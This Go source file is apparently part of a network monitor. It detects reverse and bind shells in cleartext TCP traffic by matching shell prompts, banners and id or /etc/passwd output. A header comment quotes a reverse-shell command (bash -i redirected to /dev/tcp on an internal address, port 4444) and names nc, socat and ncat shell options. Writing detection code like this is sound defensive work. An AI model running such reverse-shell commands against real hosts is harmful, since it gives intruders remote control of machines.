package traffic

import (
	"bytes"
	"fmt"
	"net/netip"

	"tend/capture"
	"tend/inventory"
)

// A command shell driven over a cleartext TCP connection (review 35a P12:
// `bash -i >& /dev/tcp/10.35.1.66/4444` on the NAS, the attacker typing
// id, uname -a and cat /etc/passwd, raised nothing) shows itself in the
// first bytes of the connection by the shell's own words:
//   - prompts: "sh-5.2$ ", "root@host:~# ", "[root@host ~]# ", "$ ",
//     "PS C:\Users\x> ", "C:\Windows\system32>";
//   - banners a shell prints on a socket: bash's "cannot set terminal
//     process group" and "no job control in this shell", dash's "can't
//     access tty", cmd.exe's "Microsoft Windows [Version" and "(c)
//     Microsoft Corporation", "Windows PowerShell";
//   - the output of the first commands an intruder types: id's
//     "uid=0(root) gid=", /etc/passwd's "root:x:0:0:".
//
// A reverse shell is a TCP client that sends such words (bash /dev/tcp,
// nc -e, socat exec, a python pty): a client shows no prompt in any
// protocol an office runs; the client's command output must answer the
// few bytes its peer sent. A bind shell is a server on a port of no login
// service that answers a client's first short line with command output or
// a shell banner before it sent any greeting of its own (ncat -l -e). A
// telnet, rlogin or console server shows its prompt to the client as it
// should, after greeting it, from its own port: quiet.
//
// Only the first bytes count (shellHead of the sender's, shellPeerMax of
// the peer's): the connection's initial sequence numbers come from its
// SYN+ACK, held in a fixed direct-mapped table, so a file that holds
// /etc/passwd (SMB, NFS, HTTP, rsync) is bulk data past them, and a
// connection whose SYN+ACK was not seen is not judged. A data segment is
// looked up only when its bytes carry one of the words (shellCue): a
// segment longer than shellSegMax, as bulk data's are, costs one compare.

const (
	shellSlots   = 512  // connections held, direct-mapped (16 KB, made at the first SYN+ACK)
	shellSegMax  = 2048 // longer segments are bulk data, never read
	shellHead    = 4096 // the sender's first bytes read
	shellPeerMax = 512  // the peer sent at most this much: a few typed lines
)

// shellConn is an accepted TCP connection: its 4-tuple's hash (0: empty)
// and both sides' initial sequence numbers.
type shellConn struct {
	key            uint64
	srvISN, cliISN uint32
}

// shellKind is what a segment's words show.
type shellKind uint8

const (
	shellNone   shellKind = iota
	shellPrompt           // a prompt waiting for a command
	shellBanner           // a shell's banner on a socket
	shellOutput           // a command's output
)

// connHash hashes a TCP connection from its server's address and port to
// its client's.
func connHash(srv netip.Addr, sport uint16, cli netip.Addr, cport uint16) uint64 {
	a, b := srv.As16(), cli.As16()
	h := uint64(sport)<<16 | uint64(cport) | 1<<40
	for i := 0; i < 16; i += 8 {
		h = (h ^ le64(a[i:])) * 0x9e3779b97f4a7c15
		h = (h ^ le64(b[i:])) * 0xc2b2ae3d27d4eb4f
	}
	return h ^ h>>29 | 1
}

func le64(b []byte) uint64 {
	_ = b[7]
	return uint64(b[0]) | uint64(b[1])<<8 | uint64(b[2])<<16 | uint64(b[3])<<24 | uint64(b[4])<<32 | uint64(b[5])<<40 | uint64(b[6])<<48 | uint64(b[7])<<56
}

// shellOpen notes a SYN+ACK: its sender is the connection's server.
func (e *Engine) shellOpen(p *capture.Packet) {
	if e.shells == nil {
		e.shells = new([shellSlots]shellConn)
	}
	k := connHash(p.SrcIP(), uint16(p.TCP.SrcPort), p.DstIP(), uint16(p.TCP.DstPort))
	e.shells[k%shellSlots] = shellConn{key: k, srvISN: p.TCP.Seq, cliISN: p.TCP.Ack - 1}
}

// barePrompt reports whether b, a segment of 2 or 3 bytes, is a bare
// prompt, dash's and sh's "$ " and "# " (3: after a CR or LF): shorter
// than the 4 bytes other readers need.
func barePrompt(b []byte) bool {
	n := len(b)
	return n >= 2 && n <= 3 && b[n-1] == ' ' && (b[n-2] == '$' || b[n-2] == '#')
}

// shellCue reports whether a data segment may hold a shell's words: it
// ends as a prompt does, or starts as a banner or an output does.
func shellCue(b []byte) bool {
	n := len(b)
	if n < 2 || n > shellSegMax {
		return false
	}
	if c := b[n-1]; c == '>' || c == ' ' && (b[n-2] == '$' || b[n-2] == '#' || b[n-2] == '>') {
		return true
	}
	switch b[0] {
	case 'b', 's', 'u', 'r', 'M', '(', 'W':
		return true
	}
	return false
}

// shellSegment judges a data segment whose bytes have a shell's cue.
func (e *Engine) shellSegment(p *capture.Packet, src, dst mac) {
	if e.shells == nil || !p.TCP.ACK {
		return
	}
	t := &p.TCP
	sp, dp := uint16(t.SrcPort), uint16(t.DstPort)
	k := connHash(p.SrcIP(), sp, p.DstIP(), dp)
	c, client := &e.shells[k%shellSlots], false
	if c.key != k {
		k = connHash(p.DstIP(), dp, p.SrcIP(), sp)
		if c, client = &e.shells[k%shellSlots], true; c.key != k {
			return
		}
	}
	own, peer := t.Seq-c.srvISN-1, t.Ack-c.cliISN-1
	if client {
		own, peer = t.Seq-c.cliISN-1, t.Ack-c.srvISN-1
	}
	if own >= shellHead || peer > shellPeerMax {
		return
	}
	kind, words := shellWords(t.Payload)
	switch {
	case kind == shellNone:
		return
	case client && kind == shellOutput && peer < 2:
		return // output answers a command
	case !client && (own != 0 || kind == shellPrompt || kind == shellOutput && peer < 2 || standardLogin(sp) || e.servicePort(p, sp, true) != sp || sp == 513 || sp == 514):
		return // a server's prompt after its greeting; a login service's
	}
	e.raiseShell(p, src, dst, client, words)
}

// raiseShell reports the host whose shell is driven: p's sender, src.
func (e *Engine) raiseShell(p *capture.Packet, src, dst mac, client bool, words string) {
	if e.isSelf(src) || !unicast(dst) {
		return
	}
	shell, op := p.SrcIP(), p.DstIP()
	how := fmt.Sprintf("a reverse shell: it connected to %s port %d", op, p.TCP.DstPort)
	if !client {
		how = fmt.Sprintf("a bind shell: %s connected to its port %d", op, p.TCP.SrcPort)
	}
	ev := inventory.Event{Time: p.Time, Type: inventory.EventRemoteShell, Severity: inventory.SeverityHigh,
		MAC: macOf(src), IP: shell, TargetIP: op,
		Summary:  fmt.Sprintf("%s runs a command shell for %s over cleartext TCP (%s)", shell, op, how),
		Evidence: []inventory.Evidence{{Source: "traffic", Detail: fmt.Sprintf("%s sent %q in the connection's first bytes", shell, words)}}}
	if gw, ok := e.gatewayMAC(); !ok || gw != dst {
		ev.TargetMAC = macOf(dst)
	}
	e.report(ev, src, mac{})
}

// shellWords finds a shell's words in b: a banner or output at its start,
// a prompt on its last line; words is the line that shows it.
func shellWords(b []byte) (shellKind, string) {
	for _, w := range shellBanners {
		if bytes.HasPrefix(b, []byte(w)) {
			return shellBanner, firstLine(b)
		}
	}
	if bytes.HasPrefix(b, []byte("root:x:0:0:")) || idOutput(b) {
		return shellOutput, firstLine(b)
	}
	if i := bytes.LastIndexAny(b, "\r\n"); i >= 0 {
		b = b[i+1:]
	}
	b = skipEscapes(b)
	if prompt(b) {
		return shellPrompt, string(b)
	}
	return shellNone, ""
}

var shellBanners = [...]string{
	"bash: cannot set terminal process group", "bash: no job control in this shell",
	"sh: no job control in this shell", "sh: 0: can't access tty", "/bin/sh: 0: can't access tty",
	"Microsoft Windows [Version", "(c) Microsoft Corporation", "Windows PowerShell",
}

// idOutput reports whether b starts as id(1)'s output: "uid=N(name) gid=".
func idOutput(b []byte) bool {
	if !bytes.HasPrefix(b, []byte("uid=")) {
		return false
	}
	i := 4
	for i < len(b) && b[i] >= '0' && b[i] <= '9' {
		i++
	}
	if i == 4 || i >= len(b) || b[i] != '(' {
		return false
	}
	j := bytes.IndexByte(b[i:min(len(b), i+64)], ')')
	return j > 0 && bytes.HasPrefix(b[i+j+1:], []byte(" gid="))
}

func firstLine(b []byte) string {
	if i := bytes.IndexAny(b, "\r\n"); i >= 0 {
		b = b[:i]
	}
	return string(b[:min(len(b), 80)])
}

// skipEscapes drops the terminal escapes a prompt on a pty starts with:
// CSI (bracketed paste "\x1b[?2004h", colours) and OSC (the window title
// "\x1b]0;user@host: ~\a").
func skipEscapes(b []byte) []byte {
	for len(b) >= 2 && b[0] == 0x1b {
		end := -1
		switch b[1] {
		case '[':
			for i := 2; i < len(b); i++ {
				if b[i] >= 0x40 && b[i] <= 0x7e {
					end = i + 1
					break
				}
			}
		case ']':
			if i := bytes.IndexByte(b, 7); i > 0 {
				end = i + 1
			} else if i := bytes.Index(b, []byte("\x1b\\")); i > 0 {
				end = i + 2
			}
		}
		if end < 0 {
			return b
		}
		b = b[end:]
	}
	return b
}

// prompt reports whether line (a segment's last line, escapes skipped) is
// a shell's prompt: "$ " or "# " alone; name-version ("sh-5.2$ ");
// user@host:path or [user@host path] (bash's and Red Hat's defaults) ending
// "$ " or "# " (colours inside allowed); PowerShell's "PS C:\...> "; cmd's
// "C:\...>".
func prompt(line []byte) bool {
	n := len(line)
	if n < 2 || n > 160 || bytes.IndexByte(line, '\t') >= 0 {
		return false
	}
	last, end := line[n-1], line[n-2]
	switch {
	case last == '>':
		return drivePath(line)
	case last != ' ':
		return false
	case end == '>':
		return bytes.HasPrefix(line, []byte("PS ")) && drivePath(line[3:])
	case end != '$' && end != '#':
		return false
	case n == 2:
		return true
	}
	body := line[:n-2]
	if at := bytes.IndexByte(body, '@'); at > 0 {
		return bytes.IndexByte(body[at:], ':') > 0 || body[0] == '[' && body[len(body)-1] == ']' || body[len(body)-1] == 'm'
	}
	dash := bytes.IndexByte(body, '-')
	if dash <= 0 {
		return false
	}
	for _, c := range body[dash+1:] {
		if (c < '0' || c > '9') && c != '.' {
			return false
		}
	}
	return dash+1 < len(body)
}

// drivePath reports whether b starts with a Windows drive's path ("C:\")
// and ends with '>' (or "> ").
func drivePath(b []byte) bool {
	return len(b) >= 4 && (b[0]|0x20) >= 'a' && (b[0]|0x20) <= 'z' && b[1] == ':' && b[2] == '\\' && bytes.IndexByte(b, '\n') < 0
}
